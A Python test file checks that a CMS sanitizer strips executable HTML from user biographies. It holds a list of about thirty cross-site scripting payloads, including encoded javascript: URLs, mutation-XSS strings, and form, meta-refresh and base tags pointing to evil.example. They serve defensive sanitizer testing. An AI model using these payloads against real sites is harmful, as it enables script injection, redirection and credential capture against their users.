"""Nothing that runs comes through a biography, whatever is sent; what an editor writes stays."""

import random
from html.parser import HTMLParser

import pytest

from cms import biographies
from kernel.errors import Invalid

GOOD = (
    "<h3>Before</h3><p>Twenty <b>years</b> of <i>it</i>, <strong>and</strong> <em>more</em>.<br>"
    'See <a href="https://example.org/a?b=1&amp;c=2">here</a>, <a href="/mentors/">there</a> or '
    '<a href="mailto:ada@example.org">write</a>.</p><ul><li>One</li></ul><ol><li>Two</li></ol>'
)
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)" style="position:fixed" class="x" id="main">Hello</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="https://example.org" target="_blank" onmouseover="alert(1)">x</a>',
    '<a linktype="page" id="3">x</a>',
    '<embed embedtype="image" id="1" format="left" alt="x">',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>",
    "<?php <script>alert(1)</script> ?>",
    "<style>@import 'https://evil.example/x.css'</style>",
    '<form action="https://evil.example"><input name="p"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea>",
    "<p>unclosed <b onclick=x>tags <a href='https://example.org'",
    '<p title="</p><script>alert(1)</script>">x</p>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
ELEMENTS = {"p", "br", "b", "strong", "i", "em", "h3", "ul", "ol", "li", "a"}


class Reader(HTMLParser):
    """What a browser would make of it: the elements and their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.odd: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        self.attributes += attrs

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    def handle_decl(self, decl: str) -> None:
        self.odd.append(decl)

    def handle_pi(self, data: str) -> None:
        self.odd.append(data)

    def unknown_decl(self, data: str) -> None:
        self.odd.append(data)


def check_harmless(html: str) -> None:
    read = Reader(html)
    assert set(read.elements) <= ELEMENTS, html
    assert {name for name, _ in read.attributes} <= {"href"}, html
    for _, value in read.attributes:
        assert value, html
        assert value.startswith(("https://", "http://", "mailto:", "/")), html
        assert not value.startswith(("//", "/\\")), html
    assert read.odd == [], html


def test_what_an_editor_writes_stays() -> None:
    assert biographies.cleaned(GOOD) == GOOD.replace("<br>", "<br/>")


@pytest.mark.parametrize("html", HOSTILE)
def test_what_runs_is_gone(html: str) -> None:
    cleaned = biographies.cleaned(f"<p>Before</p>{html}")

    assert cleaned.startswith("<p>Before")
    check_harmless(cleaned)
    assert biographies.cleaned(cleaned) == cleaned


def test_the_check_itself_finds_each_of_them() -> None:
    """The negative control: uncleaned, nearly all of them are found."""
    missed = []
    for html in HOSTILE:
        try:
            check_harmless(html)
        except AssertionError:
            continue
        missed.append(html)

    assert missed == ["&lt;script&gt;alert(1)&lt;/script&gt;"]


def test_any_mixture_of_them_is_harmless_and_is_cleaned_once() -> None:
    draw = random.Random(7)
    pieces = [*HOSTILE, GOOD, "</p>", "<", ">", '"', "'", "&", "<p", "<a href='", "]]>", "-->"]
    for _ in range(400):
        html = "".join(draw.choices(pieces, k=draw.randint(1, 8)))
        if draw.random() < 0.5:
            at = draw.randrange(len(html))
            html = html[:at] + draw.choice("<>\"'&/ \x0b") + html[at:]
        cleaned = biographies.cleaned(html)
        check_harmless(cleaned)
        assert biographies.cleaned(cleaned) == cleaned, html


def test_what_is_no_text_is_refused() -> None:
    for html in ("<b>" * 6_000, "&" * 20_000):
        with pytest.raises(Invalid) as refused:
            biographies.cleaned(html)
        assert refused.value.facts == {"pointer": "/bio"}
